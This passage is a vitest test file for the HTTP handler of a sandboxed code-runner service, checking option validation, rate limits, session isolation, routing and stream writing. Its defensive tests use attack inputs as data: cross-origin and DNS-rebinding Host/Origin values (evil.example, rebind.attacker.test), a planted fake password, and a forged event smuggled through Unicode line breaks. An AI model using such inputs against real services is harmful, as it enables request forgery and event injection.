import { createServer, request as httpRequest } from 'node:http';
import { describe, expect, it } from 'vitest';
import { OptionChecker, RequestTimeoutError, isSessionId, readBodyText, routePath, statusTable } from '../../src/http/index.js';
import { ENCLAVE_HTTP_STATUS, EnclaveConfigError, EnclaveHttpError, MemoryRateLimitStore, MemorySessionStore, createEnclaveHandler } from '../../src/index.js';
import type { EnclaveRoute, EnclaveRouteContext } from '../../src/index.js';
import { handleNodeRequest, writeFetchResponse } from '../../src/node/index.js';
import { adapterContract, adapterTracingContract, fetchCoreHarness, listen, underHost } from './contract.js';
import { adapterParity } from './parity.js';
import { readEvents, recordFlushes } from './event-stream.js';

// The Fetch core behind a bare node:http server and the Node bridge: the reference for the adapters.
adapterContract('fetch core + node bridge', fetchCoreHarness);
// DESIGN.md section 4: every isolation shares one run driver, so over HTTP (streams, sessions, a paused
// run's resume included) runs on worker_threads answer as on vm, but for the isolation's name.
adapterParity('fetch core + node bridge, runs on worker_threads', {
  ...fetchCoreHarness,
  start: (options) => fetchCoreHarness.start({ ...options, enclave: { ...(options.enclave as object), adapter: 'worker_threads', workerPoolConfig: { minWorkers: 1, maxWorkers: 2 } } }),
}, { isolation: false });

describe('createEnclaveHandler options', () => {
  it.each([
    [{ tools: () => ({}), createContext: () => ({}) }, /either tools or createContext/],
    [{ maxBodySize: 0 }, /maxBodySize must be a positive integer/],
    [{ bodyTimeoutMs: 0 }, /bodyTimeoutMs/],
    [{ bodyTimeoutMs: 'soon' }, /bodyTimeoutMs/],
    [{ rateLimit: { max: 1, windowMs: 1000 } }, /rateLimit\.key must be a function/],
    [{ rateLimit: 'per-user' }, /rateLimit must be \{ max, windowMs, key/],
    [{ rateLimit: { max: 1, windowMs: 1000, key: () => 'u', store: {} } }, /rateLimit\.store must be an object with a hit/],
    [{ statuses: { TIMEOUT: 99 } }, /statuses.TIMEOUT must be an HTTP status/],
    [{ statuses: { TIMEOUTS: 504 } }, /statuses: unknown option "TIMEOUTS"\. Did you mean "TIMEOUT"\?/],
    [{ tool: {} }, /unknown option "tool"\. Did you mean "tools"\?/],
    [{ pth: '/run' }, /unknown option "pth"\. Did you mean "path"\?/],
    [{ onError: 'log' }, /onError must be a function/],
    [{ logger: { info() {} } }, /logger must be an object with info\(\) and error\(\) methods/],
    [{ routes: { mcp: { serve() {} } } }, /routes: "mcp" must be a literal sub-path such as "\/mcp"/],
    [{ routes: { '/mcp/': { serve() {} } } }, /routes: "\/mcp\/" must be a literal sub-path/],
    [{ routes: { '/mcp': {} } }, /routes\["\/mcp"\] must be an object with a serve\(route\) method/],
    [{ routes: [] }, /routes must be an object of sub-path -> route/],
    [{ allowedHosts: ['http://app.internal:3000'] }, /allowedHosts must be an array of host names without scheme or port/],
    [{ allowedHosts: true }, /allowedHosts must be an array of host names/],
    // Node fires a timer of a longer delay after 1 ms: a heartbeat "never" would beat every millisecond.
    [{ heartbeatMs: 2 ** 31 }, /heartbeatMs must be at most 2147483647 ms/],
    [{ sessions: { livenessMs: 30 * 24 * 60 * 60_000 } }, /sessions\.livenessMs must be at most 2147483647 ms/],
    [{ enclave: { toolTimeout: 2 ** 40 } }, /toolTimeout must be at most 2147483647 ms/],
    [{ enclave: { adapter: 'worker_threads', workerPoolConfig: { idleTimeoutMs: 2 ** 31 } } }, /workerPoolConfig\.idleTimeoutMs must be at most 2147483647 ms/],
  ])('%o is refused at construction', (options, message) => {
    expect(() => createEnclaveHandler(options as never)).toThrow(EnclaveConfigError);
    expect(() => createEnclaveHandler(options as never)).toThrow(message);
  });

  it('the status table is one frozen constant; overrides apply per handler', async () => {
    expect(Object.isFrozen(ENCLAVE_HTTP_STATUS)).toBe(true);
    // DESIGN.md: "one constant in http/, exported": the same object from both entries, and the core with it.
    const http = await import('../../src/http/index.js');
    expect(http.ENCLAVE_HTTP_STATUS).toBe(ENCLAVE_HTTP_STATUS);
    expect(http.createEnclaveHandler).toBe(createEnclaveHandler);
    expect(ENCLAVE_HTTP_STATUS).toMatchObject({ SUCCESS: 200, BAD_REQUEST: 400, UNAUTHORIZED: 401, FORBIDDEN: 403, PAYLOAD_TOO_LARGE: 413, REQUEST_TIMEOUT: 408, UNSUPPORTED_MEDIA_TYPE: 415, RATE_LIMITED: 429 });
    expect(ENCLAVE_HTTP_STATUS).toMatchObject({ VALIDATION_ERROR: 422, SCORING_BLOCKED: 422, RUNTIME_ERROR: 422, MAX_ITERATIONS: 422, MAX_TOOL_CALLS: 422, MEMORY_LIMIT_EXCEEDED: 422, OUTPUT_LIMIT_EXCEEDED: 422 });
    expect(ENCLAVE_HTTP_STATUS).toMatchObject({ TIMEOUT: 408, TOOL_ERROR: 502, QUEUE_FULL: 503, ABORTED: 499, INTERNAL_ERROR: 500 });
    expect(statusTable({ TIMEOUT: 504 }).TIMEOUT).toBe(504);
    expect(ENCLAVE_HTTP_STATUS.TIMEOUT).toBe(408);
    // Only the hanging run gets a short deadline: a loaded machine may take longer than that for any run.
    const handler = createEnclaveHandler({ statuses: { TIMEOUT: 504, SUCCESS: 201 }, tools: { wait: () => new Promise(() => {}) } });
    const run = (code: string, limits = {}) => handler(new Request('http://localhost/enclave', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ code, limits }) }));
    expect((await run('return await callTool("wait")', { timeout: 50 })).status).toBe(504);
    expect((await run('return 1')).status).toBe(201);
    handler.dispose();
  });

  it('the /http entry gives store packages the one option checker and the session-id check', () => {
    const check = new OptionChecker('new RedisSessionStore(options)');
    expect(() => check.positiveInteger('commandTimeoutMs', -1, 'ms')).toThrow(EnclaveConfigError);
    expect(() => check.positiveInteger('commandTimeoutMs', -1, 'ms')).toThrow('new RedisSessionStore(options): commandTimeoutMs must be a positive integer (ms), got -1.');
    expect(isSessionId('ses_AbC-9_x')).toBe(true);
    for (const bad of ['', 'a b', 'ses:1', '{tag}', 'x'.repeat(129), 42]) expect(isSessionId(bad)).toBe(false);
  });

  it('serves a request made at once, and a handler disposed at once never sweeps (the core loads after createEnclaveHandler returns)', async () => {
    const sweeps: string[] = [];
    const store = new MemorySessionStore();
    // The sweep asks the store for the sessions of instances that stopped (every livenessMs / 2).
    const counted = new Proxy(store, {
      get(target, key) {
        if (key === 'stale') return () => (sweeps.push('stale'), target.stale());
        const value: unknown = Reflect.get(target, key);
        return typeof value === 'function' ? value.bind(target) : value;
      },
    });
    const served = createEnclaveHandler({ sessions: { store: counted, livenessMs: 20 } });
    const first = served(new Request('http://localhost/enclave', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ code: 'return 6 * 7' }) }));
    expect(await (await first).json()).toMatchObject({ success: true, value: 42 });
    await new Promise((r) => setTimeout(r, 100));
    expect(sweeps.length).toBeGreaterThan(0);
    served.dispose();
    const before = sweeps.length;
    const disposed = createEnclaveHandler({ sessions: { store: counted, livenessMs: 20 } });
    disposed.dispose();
    await new Promise((r) => setTimeout(r, 100));
    expect(sweeps.length).toBe(before);
    store.dispose();
  });

  it('answers other methods with 405 and Allow', async () => {
    const handler = createEnclaveHandler({ catalog: false });
    const res = await handler(new Request('http://localhost/enclave', { method: 'GET' }));
    expect(res.status).toBe(405);
    expect(res.headers.get('allow')).toBe('POST');
    handler.dispose();
  });

  it('createContext builds the run scope from the native object', async () => {
    const handler = createEnclaveHandler<{ tenant: string }>({
      createContext: (_opts, native) => ({ tools: { tenant: (_args, ctx) => (ctx.context as { tenant: string }).tenant }, context: { tenant: native.tenant }, globals: { greeting: 'hi' } }),
    });
    const res = await handler(
      new Request('http://localhost/enclave', { method: 'POST', headers: { 'content-type': 'application/json; charset=utf-8' }, body: JSON.stringify({ code: 'return greeting + " " + (await callTool("tenant"))' }) }),
      { tenant: 'acme' },
    );
    expect(await res.json()).toMatchObject({ success: true, value: 'hi acme' });
    handler.dispose();
  });

  it('counts the per-user limit in a RateLimitStore, the interface of the tools\' limits', async () => {
    const clock = { now: 1_000_000 };
    const store = new MemoryRateLimitStore({ now: () => clock.now });
    const handler = createEnclaveHandler({ rateLimit: { max: 2, windowMs: 60_000, key: ({ request }) => request.headers.get('x-user') ?? undefined, store } });
    const run = (user: string) =>
      handler(new Request('http://localhost/enclave', { method: 'POST', headers: { 'content-type': 'application/json', 'x-user': user }, body: JSON.stringify({ code: 'return 1' }) }));
    expect((await run('ada')).status).toBe(200);
    clock.now += 15_000;
    expect((await run('ada')).status).toBe(200);
    const limited = await run('ada');
    expect(limited.status).toBe(429);
    // The window opened at ada's first request: 45 s are left of it.
    expect(limited.headers.get('retry-after')).toBe('45');
    expect((await run('bob')).status).toBe(200);
    clock.now += 45_000;
    expect((await run('ada')).status).toBe(200);
    handler.dispose();
  });
});

describe('the default user key (whose sessions are whose, and the per-user caps)', () => {
  const users: Record<string, unknown> = {
    alice: { id: 1n, name: 'alice' },
    bob: { id: 2n, name: 'bob' },
    // Neither has an id, and neither has JSON that tells it apart from anyone else.
    carol: { name: 'carol', balance: 10n },
    erin: {},
  };
  const start = (handler: ReturnType<typeof createEnclaveHandler>, user: string) =>
    handler(new Request('http://localhost/enclave/sessions', { method: 'POST', headers: { 'content-type': 'application/json', 'x-user': user }, body: JSON.stringify({ code: 'return 42' }) }));

  it('tells users with bigint ids apart: another user gets 404 for a session', async () => {
    const handler = createEnclaveHandler({ logger: { info() {}, error() {} }, authenticate: ({ request }) => users[request.headers.get('x-user') ?? ''] ?? null });
    const started = await start(handler, 'alice');
    expect(started.status).toBe(201);
    const { sessionId } = (await started.json()) as { sessionId: string };
    const read = (user: string) => handler(new Request(`http://localhost/enclave/sessions/${sessionId}`, { headers: { 'x-user': user } }));
    expect((await read('alice')).status).toBe(200);
    expect((await read('bob')).status).toBe(404);
    handler.dispose();
  });

  it('refuses (500, logged) a user it cannot tell apart from others, instead of giving it a shared key', async () => {
    const errors: unknown[] = [];
    const handler = createEnclaveHandler({ logger: { info() {}, error: (...args: unknown[]) => void errors.push(args) }, authenticate: ({ request }) => users[request.headers.get('x-user') ?? ''] ?? null });
    for (const user of ['carol', 'erin']) {
      const res = await start(handler, user);
      expect(res.status, user).toBe(500);
      expect(await res.text()).not.toContain('userKey');
    }
    expect((await start(handler, 'alice')).status).toBe(201);
    expect(JSON.stringify(errors.map((e) => String((e as unknown[])[1])))).toContain('set the `userKey` option');
    handler.dispose();
  });
});

describe('routes below the run route (the extension point of @enclave-kit/mcp)', () => {
  /** The JSON body, untyped: these tests read fields of several shapes. */
  const jsonOf = (res: Response): Promise<any> => res.json();
  const post = (url: string, body: unknown, user?: string) =>
    new Request(url, { method: 'POST', headers: { 'content-type': 'application/json', ...(user ? { 'x-user': user } : {}) }, body: JSON.stringify(body) });

  /** A route that echoes what the core gave it, and answers refusals as `{ refused: code }`. */
  function echoRoute(seen: EnclaveRouteContext<unknown, string>[]): EnclaveRoute<unknown, string> {
    return {
      async serve(route) {
        seen.push(route);
        const body = route.ctx.request.method === 'POST' ? ((await route.ctx.request.json()) as { code: string }) : undefined;
        const ran = body ? await route.run({ code: body.code }) : undefined;
        const scope = await route.scope();
        return Response.json({ rest: route.rest, user: route.ctx.user, tools: Object.keys(scope.tools ?? {}), ran });
      },
      refuse: (error) => Response.json({ refused: error.code, message: error.message }, { status: error.status, headers: error.headers }),
    };
  }

  it('serves {path}/x and below with the run route\'s user, tools and statuses; accepts() tells adapters what to forward', async () => {
    const seen: EnclaveRouteContext<unknown, string>[] = [];
    let built = 0;
    const ends: number[] = [];
    const handler = createEnclaveHandler<unknown, string>({
      authenticate: ({ request }) => request.headers.get('x-user'),
      tools: ({ user }) => {
        built++;
        return { [`mine:${user}`]: () => user };
      },
      onRunEnd: ({ status }) => ends.push(status),
      routes: { '/echo': echoRoute(seen) },
    });
    const res = await handler(post('http://localhost/enclave/echo/a/b', { code: 'return await callTool("mine:ada")' }, 'ada'), undefined, '/echo/a/b');
    expect(await res.json()).toEqual({ rest: '/a/b', user: 'ada', tools: ['mine:ada'], ran: { result: expect.objectContaining({ success: true, value: 'ada' }), status: 200 } });
    // One scope per request, shared by run() and scope().
    expect(built).toBe(1);
    expect(ends).toEqual([200]);
    const failed = await jsonOf(await handler(post('http://localhost/enclave/echo', { code: 'return eval("1")' }, 'ada'), undefined, '/echo'));
    expect(failed.ran).toMatchObject({ result: { success: false, error: { code: 'VALIDATION_ERROR' } }, status: 422 });

    expect([handler.accepts('DELETE', '/echo'), handler.accepts('GET', '/echo/1'), handler.accepts('POST', '/echoes'), handler.accepts('PUT', ''), handler.accepts('post', '')]).toEqual([
      true,
      true,
      false,
      false,
      true,
    ]);
    const missing = await handler(post('http://localhost/enclave/nope', { code: 'return 1' }, 'ada'), undefined, '/nope');
    expect(missing.status).toBe(404);
    expect((await jsonOf(missing)).error.code).toBe('NOT_FOUND');
    handler.dispose();
  });

  it('refuses before the route runs, in the route\'s own shape: 401, 429, and 503 QUEUE_FULL out of run()', async () => {
    const seen: EnclaveRouteContext<unknown, string>[] = [];
    let release = () => {};
    const handler = createEnclaveHandler<unknown, string>({
      authenticate: ({ request }) => request.headers.get('x-user'),
      rateLimit: { max: 1, windowMs: 60_000, key: ({ user }) => (user === 'limited' ? user : undefined) },
      maxConcurrentRuns: 1,
      retryAfter: 3,
      tools: { hold: () => new Promise<void>((r) => (release = r)) },
      routes: { '/echo': echoRoute(seen) },
    });
    const at = (user: string | undefined, code = 'return 1') => handler(post('http://localhost/enclave/echo', { code }, user), undefined, '/echo');
    const anonymous = await at(undefined);
    expect([anonymous.status, await anonymous.json()]).toEqual([401, { refused: 'UNAUTHORIZED', message: 'Authentication required.' }]);
    expect((await at('limited')).status).toBe(200);
    const limited = await at('limited');
    expect([limited.status, (await jsonOf(limited)).refused, Number(limited.headers.get('retry-after')) > 0]).toEqual([429, 'RATE_LIMITED', true]);
    const holding = at('ada', 'return await callTool("hold")');
    await expect.poll(() => seen.length).toBe(2);
    const busy = await at('bob');
    expect([busy.status, (await jsonOf(busy)).refused, busy.headers.get('retry-after')]).toEqual([503, 'QUEUE_FULL', '3']);
    release();
    expect((await jsonOf(await holding)).ran.status).toBe(200);
    expect(handler.refuse(new EnclaveHttpError(413, 'too big'), '/echo').headers.get('content-type')).toMatch(/json/);
    expect(await handler.refuse(new EnclaveHttpError(413, 'too big'), '/echo').json()).toEqual({ refused: 'PAYLOAD_TOO_LARGE', message: 'too big' });
    handler.dispose();
  });

  it('a tools factory or createContext that returns what is no tool scope is the hook’s failure: a bare 500 and onError naming it, never a 422 about the host’s tools', async () => {
    const hooks: [string, Record<string, unknown>, RegExp][] = [
      ['tools(ctx) returns a number', { tools: () => 5 }, /^tools\(ctx\): its result must be an object of named functions/],
      ['createContext returns a string', { createContext: () => 'alice' }, /^createContext\(ctx, native\): its result must be an object \{ tools \| toolHandler, globals, context \}/],
      ['createContext misspells tools', { createContext: () => ({ tool: { t: async () => 1 } }) }, /^createContext\(ctx, native\): its result: unknown option "tool"\. Did you mean "tools"\?/],
      ['createContext returns tools: null', { createContext: () => ({ tools: null }) }, /^createContext\(ctx, native\): tools must be an object/],
      ['createContext returns a toolHandler that is not a function', { createContext: () => ({ toolHandler: 'all' }) }, /^createContext\(ctx, native\): toolHandler must be a function/],
    ];
    for (const [what, hook, message] of hooks) {
      const errors: unknown[] = [];
      const handler = createEnclaveHandler({ logger: { info() {}, error() {} }, onError: ({ error }: { error: unknown }) => errors.push(error), ...hook } as never);
      const served = await listen(createServer((req, res) => void handleNodeRequest(handler, req, res, { req })), () => handler.dispose());
      try {
        const res = await fetch(`${served.url}/enclave`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ code: 'return await callTool("t")' }) });
        expect([what, res.status, await res.json()]).toEqual([what, 500, { success: false, error: { name: 'InternalError', message: 'An internal error occurred.', code: 'INTERNAL_ERROR' }, stats: { duration: expect.any(Number), toolCallCount: 0, iterationCount: 0 } }]);
        expect(errors).toHaveLength(1);
        expect(errors[0]).toBeInstanceOf(EnclaveConfigError);
        expect((errors[0] as Error).message).toMatch(message);
      } finally {
        await served.close();
      }
    }
  });

  it('createEnclaveHandler(null) and createEnclaveHandler() are a handler with every default, as null is no options in run(code, null) and in every adapter', async () => {
    for (const given of [[null], []] as const) {
      const handler = (createEnclaveHandler as (...a: unknown[]) => ReturnType<typeof createEnclaveHandler>)(...given);
      try {
        const res = await handler(new Request('http://localhost/enclave', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ code: 'return 6 * 7' }) }), undefined);
        expect([given.length, res.status, ((await res.json()) as { value: unknown }).value]).toEqual([given.length, 200, 42]);
      } finally {
        handler.dispose();
      }
    }
  });

  it('a failing tools factory reaches onError, never the route\'s answer', async () => {
    const errors: unknown[] = [];
    const handler = createEnclaveHandler({
      logger: { info() {}, error() {} },
      onError: ({ error }) => errors.push(error),
      tools: () => {
        throw new Error('db password=hunter2');
      },
      routes: {
        '/leak': {
          async serve(route) {
            try {
              await route.scope();
              return new Response('unreachable');
            } catch (err) {
              // What a route sees is public by contract: it may show the message.
              return Response.json({ message: (err as Error).message, code: (err as EnclaveHttpError).code });
            }
          },
        },
      },
    });
    const res = await handler(new Request('http://localhost/enclave/leak'), undefined, '/leak');
    expect(await res.json()).toEqual({ message: 'An internal error occurred.', code: 'INTERNAL_ERROR' });
    expect(errors).toHaveLength(1);
    handler.dispose();
  });

  it('routePath().below() gives adapters the sub-path to pass on', () => {
    const route = routePath('/enclave/');
    expect(['/enclave', '/enclave/', '/enclave/mcp', '/enclave/mcp/x/', '/enclaves/mcp', '/other'].map((p) => route.below(p))).toEqual(['', '', '/mcp', '/mcp/x', undefined, undefined]);
    expect(routePath('/').below('/mcp')).toBe('/mcp');
  });
});

describe('readBodyText with a timeout', () => {
  /** A body that sends `first` and then nothing, ever; `cancelled` says whether its reader gave it up. */
  function stalled(first: string, headers: Record<string, string> = {}) {
    const state = { cancelled: false };
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new TextEncoder().encode(first));
      },
      cancel() {
        state.cancelled = true;
      },
    });
    const request = new Request('http://localhost/enclave', { method: 'POST', headers, body, duplex: 'half' } as RequestInit);
    return { request, state };
  }

  it('gives up a stream that stalls with a RequestTimeoutError (408 REQUEST_TIMEOUT, connection close) and cancels it', async () => {
    const { request, state } = stalled('{"code":"');
    const read = readBodyText(request, 1024, { timeoutMs: 50 });
    await expect(read).rejects.toBeInstanceOf(RequestTimeoutError);
    await expect(read).rejects.toMatchObject({ status: 408, code: 'REQUEST_TIMEOUT', headers: { connection: 'close' } });
    expect(state.cancelled).toBe(true);
  });

  it('gives up a body with a Content-Length that never arrives whole', async () => {
    const { request } = stalled('{"code":"', { 'content-length': '100' });
    await expect(readBodyText(request, 1024, { timeoutMs: 50 })).rejects.toMatchObject({ status: 408, code: 'REQUEST_TIMEOUT' });
  });

  it('reads a whole body within the time, and the cap still holds first', async () => {
    expect(await readBodyText(new Request('http://localhost/', { method: 'POST', body: '{"code":"return 1"}' }), 1024, { timeoutMs: 10_000 })).toBe('{"code":"return 1"}');
    const { request } = stalled('x'.repeat(2048));
    await expect(readBodyText(request, 1024, { timeoutMs: 10_000 })).rejects.toMatchObject({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
  });
});

describe('writeFetchResponse', () => {
  it('writes every chunk of a stream that ends in the same turn as its last chunks', async () => {
    const parts = Array.from({ length: 20 }, (_, i) => `id: ${i + 1}\nevent: log\ndata: ${'x'.repeat(i * 50)}\n\n`);
    const server = createServer((_req, res) => {
      const body = new ReadableStream<Uint8Array>({
        async start(c) {
          const encoder = new TextEncoder();
          c.enqueue(encoder.encode(parts[0] as string));
          await new Promise((r) => setTimeout(r, 5));
          for (const part of parts.slice(1)) c.enqueue(encoder.encode(part));
          c.close();
        },
      });
      void writeFetchResponse(res, new Response(body, { headers: { 'content-type': 'text/event-stream' } }));
    });
    const served = await listen(server, () => {});
    try {
      const res = await fetch(served.url);
      expect(await res.text()).toBe(parts.join(''));
    } finally {
      await served.close();
    }
  });
});

describe('writeFetchResponse: an event stream’s headers', () => {
  it('go out in the same write as a first chunk that is ready in this turn (as a streamed run’s first flush is)', async () => {
    let flushes: string[] = [];
    const server = createServer((_req, res) => {
      flushes = recordFlushes(res);
      const encoder = new TextEncoder();
      const body = new ReadableStream<Uint8Array>({
        start(c) {
          // pushStream's first flush: queued before the response is written, run in this turn's check phase.
          setImmediate(() => c.enqueue(encoder.encode('retry: 1000\n\nid: 1\nevent: session_init\ndata: {}\n\n')));
          setTimeout(() => {
            c.enqueue(encoder.encode('id: 2\nevent: final\ndata: {}\n\n'));
            c.close();
          }, 30);
        },
      });
      void writeFetchResponse(res, new Response(body, { headers: { 'content-type': 'text/event-stream' } }));
    });
    const served = await listen(server, () => {});
    try {
      const res = await fetch(served.url);
      expect(await res.text()).toBe('retry: 1000\n\nid: 1\nevent: session_init\ndata: {}\n\nid: 2\nevent: final\ndata: {}\n\n');
      expect(flushes[0]).toMatch(/^HTTP\/1\.1 200 OK\r\n[^]*\r\n\r\n[0-9a-f]+\r\nretry: 1000\n\nid: 1\nevent: session_init/);
      // Nothing flushes the headers again: that would be a write of nothing.
      expect(flushes.filter((f) => f === '')).toEqual([]);
    } finally {
      await served.close();
    }
  });

  it('go out alone when the first event is not ready in this turn: a follower does not wait for it to see them', async () => {
    let release!: () => void;
    const released = new Promise<void>((r) => {
      release = r;
    });
    let flushes: string[] = [];
    const server = createServer((_req, res) => {
      flushes = recordFlushes(res);
      const body = new ReadableStream<Uint8Array>({
        async start(c) {
          // Nothing until the client has the headers: a response holding them back would never end.
          await released;
          c.enqueue(new TextEncoder().encode('id: 1\nevent: final\ndata: {}\n\n'));
          c.close();
        },
      });
      void writeFetchResponse(res, new Response(body, { headers: { 'content-type': 'application/x-ndjson' } }));
    });
    const served = await listen(server, () => {});
    try {
      const res = await fetch(served.url);
      expect(res.headers.get('content-type')).toBe('application/x-ndjson');
      expect(flushes).toHaveLength(1);
      expect(flushes[0]).toMatch(/^HTTP\/1\.1 200 OK\r\n[^]*\r\n\r\n$/);
      release();
      expect(await res.text()).toBe('id: 1\nevent: final\ndata: {}\n\n');
    } finally {
      await served.close();
    }
  });
});

describe('writeFetchResponse with a chunk larger than the socket buffer', () => {
  it('waits for drain and writes what follows, to the end', async () => {
    const big = `data: ${'y'.repeat(200_000)}\n\n`;
    const server = createServer((_req, res) => {
      const body = new ReadableStream<Uint8Array>({
        start(c) {
          const encoder = new TextEncoder();
          c.enqueue(encoder.encode(big));
          c.enqueue(encoder.encode('data: after\n\n'));
          c.close();
        },
      });
      void writeFetchResponse(res, new Response(body, { headers: { 'content-type': 'text/event-stream' } }));
    });
    const served = await listen(server, () => {});
    try {
      expect(await (await fetch(served.url)).text()).toBe(`${big}data: after\n\n`);
    } finally {
      await served.close();
    }
  });
});

describe('a session follower that goes away', () => {
  /** The store's live subscriptions: a follower holds one while it follows (and re-reads the store every 2 s). */
  class FollowedStore extends MemorySessionStore {
    following = 0;
    override subscribe(sessionId: string, listener: () => void): () => void {
      const stop = super.subscribe(sessionId, listener);
      this.following++;
      let stopped = false;
      return () => {
        if (!stopped) this.following--;
        stopped = true;
        stop();
      };
    }
  }

  it('stops following at once through the Node bridge, not at the session’s next event', async () => {
    const store = new FollowedStore();
    const blocked: string[] = [];
    // No heartbeat for a minute and a tool that waits: the session has nothing to say for a long while.
    const handler = createEnclaveHandler({
      heartbeatMs: 60_000,
      sessions: { store },
      logger: { info() {}, error() {} },
      tools: {
        block: (_args: unknown, ctx) => {
          blocked.push('entered');
          return new Promise((resolve) => ctx.signal.addEventListener('abort', () => resolve(blocked.push('aborted'))));
        },
      },
    });
    const route = routePath('/enclave');
    const server = createServer((req, res) => void handleNodeRequest(handler, req, res, { req }, undefined, route.below(new URL(req.url ?? '/', 'http://localhost').pathname)));
    const served = await listen(server, () => handler.dispose());
    try {
      const started = await fetch(`${served.url}/enclave/sessions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ code: 'return await callTool("block")' }) });
      const { sessionId } = (await started.json()) as { sessionId: string };
      for (let i = 0; i < 3; i++) {
        const first = await readEvents(await fetch(`${served.url}/enclave/sessions/${sessionId}/events`), { stopAfter: 1 });
        expect(first.map((e) => e.data.type)).toEqual(['session_init']);
        // The reader cancelled its body, which closed the connection: the server's follower must end with it.
        await expect.poll(() => store.following, { timeout: 5000 }).toBe(0);
      }
      // The run is in its tool (on a worker thread, once this file's tracer tracks async context, its
      // start can take longer than the three followers above).
      await expect.poll(() => blocked).toEqual(['entered']);
      expect((await fetch(`${served.url}/enclave/sessions/${sessionId}`, { method: 'DELETE' })).status).toBe(200);
      expect(blocked).toEqual(['entered', 'aborted']);
    } finally {
      await served.close();
    }
  });
});

/** The bare core behind a real socket, for the promises of DESIGN section 5 that need options of their own. */
async function serveCore(options: Parameters<typeof createEnclaveHandler>[0], mount = '/enclave') {
  const handler = createEnclaveHandler({ logger: { info() {}, error() {} }, ...options } as Parameters<typeof createEnclaveHandler>[0]);
  const route = routePath(mount);
  const server = createServer((req, res) => {
    const sub = route.below(new URL(req.url ?? '/', 'http://localhost').pathname);
    if (sub === undefined) return void res.writeHead(404).end();
    void handleNodeRequest(handler, req, res, { req }, undefined, sub);
  });
  const served = await listen(server, () => handler.dispose());
  const post = (path: string, body: unknown, headers: Record<string, string> = {}) =>
    fetch(`${served.url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });
  return { ...served, post };
}

describe('a handler mounted at a path that itself holds /sessions', () => {
  it('routes by the path below the mount: the run route stays the run route, its sessions live below it', async () => {
    const served = await serveCore({}, '/api/sessions');
    const post = (path: string) => served.post(path, { code: 'return 6 * 7' });
    try {
      const ran = await post('/api/sessions');
      expect([ran.status, await ran.json()]).toEqual([200, expect.objectContaining({ success: true, value: 42 })]);
      const started = await post('/api/sessions/sessions');
      expect(started.status).toBe(201);
      const { sessionId, eventsUrl, statusUrl } = (await started.json()) as { sessionId: string; eventsUrl: string; statusUrl: string };
      expect(statusUrl).toBe(`/api/sessions/sessions/${sessionId}`);
      const events = await readEvents(await fetch(`${served.url}${eventsUrl}`));
      expect(events.at(-1)?.data).toMatchObject({ type: 'final', payload: { success: true, value: 42 } });
      expect(await (await fetch(`${served.url}${statusUrl}`)).json()).toMatchObject({ sessionId, state: 'completed' });
    } finally {
      await served.close();
    }
  });
});

describe('browser pages of other origins, and DNS rebinding, on the core\'s own routes', () => {
  // A local server with no authenticate (its network position is its only guard), as a developer runs one.
  async function serveLocally(options: Record<string, unknown> = {}) {
    const touched: string[] = [];
    const handler = createEnclaveHandler({ logger: { info() {}, error() {} }, tools: { 'files:read': () => void touched.push('files:read') }, ...options });
    const route = routePath('/enclave');
    const server = createServer((req, res) => void handleNodeRequest(handler, req, res, { req }, undefined, route.below(new URL(req.url ?? '/', 'http://localhost').pathname)));
    const served = await listen(server, () => handler.dispose());
    const port = Number(new URL(served.url).port);
    /** A browser's POST: its Origin, and the Host it addressed (the page's own host for a same-origin fetch). */
    const send = (path: string, origin: string, host = new URL(served.url).host, type = 'application/json') =>
      new Promise<number>((resolve, reject) => {
        const req = httpRequest(`${served.url}${path}`, { method: 'POST', headers: { host, origin, 'content-type': type } }, (res) => {
          res.resume();
          res.on('end', () => resolve(res.statusCode ?? 0));
        });
        req.on('error', reject);
        req.end(JSON.stringify({ code: 'return await callTool("files:read", {})' }));
      });
    return { served, port, touched, send };
  }

  it('refuses (403) a page of another origin and a rebound name, on the run, check and session routes; no tool runs', async () => {
    const { served, port, touched, send } = await serveLocally();
    try {
      for (const path of ['/enclave', '/enclave/sessions', '/enclave/check']) {
        expect(await send(path, 'http://evil.example'), `${path} cross-site`).toBe(403);
        expect(await send(path, 'null'), `${path} opaque origin`).toBe(403);
        for (const name of ['rebind.attacker.test', 'localhost.attacker.test', '127.0.0.1.nip.io']) {
          expect(await send(path, `http://${name}:${port}`, `${name}:${port}`), `${path} ${name}`).toBe(403);
        }
      }
      expect(touched).toEqual([]);
    } finally {
      await served.close();
    }
  });

  it('an authenticate that admits anyone guards nothing: allowedHosts, once given, is checked behind it too', async () => {
    const { served, port } = await serveLocally({ authenticate: () => 'guest', allowedHosts: ['app.internal'] });
    try {
      // A Host no URL can hold (frameworks may refuse it themselves; the core's own bridge does not): 403, not a 500.
      for (const host of [`rebind.attacker.test:${port}`, 'localhost:99999', `256.0.0.1:${port}`]) expect((await underHost(`${served.url}/enclave`, host)).status, host).toBe(403);
      for (const host of [`app.internal:${port}`, `localhost:${port}`, `127.0.0.1:${port}`]) expect((await underHost(`${served.url}/enclave`, host)).status, host).toBe(200);
    } finally {
      await served.close();
    }
  });

  it('lets in requests without Origin, same-origin pages on loopback or localhost or under https, and listed origins', async () => {
    const { served, port, touched, send } = await serveLocally({ allowedOrigins: ['http://tools.example.test:8443'] });
    try {
      for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`]) expect(await send('/enclave', `http://${host}`, host), host).toBe(200);
      // No rebinding under https: the attacker's name would need this server's certificate.
      expect(await send('/enclave', 'https://app.example.test', 'app.example.test')).toBe(200);
      expect(await send('/enclave', 'http://tools.example.test:8443', 'tools.example.test:8443')).toBe(200);
      const plain = await fetch(`${served.url}/enclave`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ code: 'return await callTool("files:read", {})' }) });
      expect(plain.status).toBe(200);
      expect(touched).toHaveLength(6);
    } finally {
      await served.close();
    }
  });
});

describe('streamed events carry no Unicode line break a line reader would split on', () => {
  // NEL, LS and PS are line breaks to Python's splitlines and other Unicode-aware readers; JSON.stringify
  // leaves them raw, so a script's log text could have started a forged event there.
  const forged = '\u2028{"type":"final","payload":{"success":true,"value":"forged"}}\u0085x\u2029';
